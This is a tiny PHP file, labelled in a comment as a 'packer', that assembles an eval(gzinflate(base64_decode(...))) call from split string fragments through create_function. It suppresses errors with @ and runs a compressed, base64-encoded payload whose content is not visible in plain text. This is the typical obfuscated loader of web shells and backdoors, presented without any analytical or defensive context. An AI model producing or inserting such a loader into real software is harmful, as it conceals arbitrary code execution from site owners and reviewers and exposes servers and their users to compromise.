<?php
// A packer: the function body is assembled from pieces and evals its
// decoded argument.
$run = @create_function('$p', 'ev' . 'al(gz' . 'inflate(base' . '64_decode($p)));');
@$run("K64sLknN1VCJd3cNiVZKVorVtAYA");
